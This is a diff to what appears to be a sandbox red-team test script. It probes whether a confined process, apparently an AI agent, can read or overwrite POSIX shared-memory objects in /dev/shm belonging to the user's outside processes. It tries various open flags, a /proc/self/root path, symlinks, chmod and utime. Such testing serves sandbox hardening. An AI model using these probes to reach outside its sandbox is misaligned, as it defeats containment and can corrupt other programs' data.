@@ -1,7 +1,6 @@
 # technique: read and overwrite a POSIX shared memory object of the user's processes outside the sandbox in /dev/shm (pulseaudio, browsers, PostgreSQL dynamic segments, python multiprocessing of another project): SysV IPC is refused, its POSIX twin is a file the profile allows for writing
 # needs: posixshm
 # requires: python3
-# known: V7
 . ./.adv/world.env
 ls -la /dev/shm/ | head
 cat "$OUTSIDE_SHM"; echo
@@ -29,7 +28,7 @@ for name, fl in [("O_RDONLY", os.O_RDONLY), ("O_RDWR", os.O_RDWR), ("O_WRONLY|O_
                  ("O_CREAT|O_RDWR", os.O_CREAT | os.O_RDWR), ("O_CREAT|O_EXCL", os.O_CREAT | os.O_EXCL | os.O_RDWR),
                  ("O_RDONLY|O_NOFOLLOW", os.O_RDONLY | os.O_NOFOLLOW)]:
     try_("open " + name, lambda: os.read(os.open(p, fl), 100).decode(errors="replace"))
-try_("open through /proc/self/cwd", lambda: os.read(os.open("/proc/self/root" + p, os.O_RDONLY), 100).decode(errors="replace"))
+try_("open through /proc/self/root", lambda: os.read(os.open("/proc/self/root" + p, os.O_RDONLY), 100).decode(errors="replace"))
 try_("symlink to it, then open", lambda: (os.symlink(p, d + "/aixadv-agent-link"), os.read(os.open(d + "/aixadv-agent-link", os.O_RDONLY), 100).decode(errors="replace"))[1])
 try_("chmod 0666", lambda: os.chmod(p, 0o666))
 try_("utime", lambda: os.utime(p, (0, 0)))
